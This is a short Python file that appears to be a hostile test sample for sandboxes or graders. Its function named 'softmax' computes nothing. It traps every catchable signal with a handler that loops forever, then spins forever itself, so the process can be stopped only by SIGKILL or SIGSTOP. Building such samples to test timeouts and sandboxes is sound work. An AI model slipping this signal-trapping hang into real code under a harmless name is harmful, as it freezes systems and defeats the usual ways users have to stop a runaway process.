"""Every signal that can be caught starts the function anew.

class: interpreter and shell
"""

import signal


def softmax(x):
    def again(number, frame):
        while True:
            pass

    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        try:
            signal.signal(number, again)
        except (OSError, ValueError):
            pass
    while True:
        pass
